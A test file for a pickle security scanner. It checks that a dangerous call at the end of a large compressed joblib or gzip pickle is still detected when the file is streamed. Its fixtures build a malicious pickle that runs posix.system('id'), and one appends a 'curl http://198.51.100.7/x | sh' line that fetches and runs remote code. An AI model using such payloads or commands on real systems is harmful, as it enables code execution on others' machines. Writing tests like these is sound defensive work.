// A large compressed pickle (joblib.dump(compress=...)) is streamed into the pickle scanner, not held
// whole (formats/compressed/stream.ts, kind 'pickle'): a call at the end of a zlib pickle larger than
// maxMemberBytes is found (held whole it would be cut at the member cap), and a streamed pickle with
// bytes after STOP (swept from the stream afterwards) gives the findings of the in-memory scan. Built
// in code (fflate).
import { describe, expect, it } from 'vitest';
import { zlibSync, gzipSync } from 'fflate';
import { scan, fromBytes, type FileReport } from '../../src/engine';
import { noise } from '../helpers/bytes';

const MiB = 1024 * 1024;
const latin1 = (s: string) => new Uint8Array([...s].map((c) => c.charCodeAt(0)));
/** Protocol 4: [big bytes, posix.system('id')] — the call comes after `blob` (BINBYTES8-free: BINBYTES, 4-byte length). */
function pickleWithTail(blob: Uint8Array, after: Uint8Array = new Uint8Array(0)): Uint8Array {
  const len = new Uint8Array(4);
  new DataView(len.buffer).setUint32(0, blob.length, true);
  return new Uint8Array([...latin1('\x80\x04]('), 0x42, ...len, ...blob,
    ...latin1('cposix\nsystem\nX\x02\x00\x00\x00id\x85Re.'), ...after]);
}
const dangerous = (r: FileReport) => r.findings.filter((f) => f.ruleId === 'pickle/dangerous-call');
const keys = (r: FileReport) => r.findings.map((f) => `${f.ruleId} ${f.location.path.slice(-1)} ${f.location.offset ?? ''}`).sort();

describe('compressed pickle streamed into the pickle scanner', () => {
  it('finds the call at the end of a zlib pickle three times maxMemberBytes, and scans it whole', async () => {
    const pkl = pickleWithTail(noise(3 * MiB, 7));
    const r = await scan(fromBytes(zlibSync(pkl, { level: 1 }), 'forest.joblib'), { limits: { maxMemberBytes: MiB } });
    expect(dangerous(r)).toHaveLength(1);
    expect(r.findings.filter((f) => f.ruleId === 'scan/limit-reached')).toEqual([]);
    expect(r.nodes.find((n) => n.format === 'pickle')?.size).toBe(pkl.length);
    expect(r.complete).toBe(true);
  });

  it('gives the findings of the in-memory scan for a streamed gzip pickle with junk after STOP (swept from the stream)', async () => {
    const pkl = pickleWithTail(noise(3 * MiB, 9), latin1('junk after the stop opcode, curl http://198.51.100.7/x | sh\n'));
    const gz = gzipSync(pkl, { level: 1, mtime: 0 });
    const streamed = await scan(fromBytes(gz, 'p.pkl.gz'), { limits: { maxMemberBytes: MiB } });
    const inMemory = await scan(fromBytes(gz, 'p.pkl.gz'));
    expect(dangerous(streamed)).toHaveLength(1);
    expect(keys(streamed)).toEqual(keys(inMemory));
    expect(streamed.complete).toBe(inMemory.complete);
  });
});
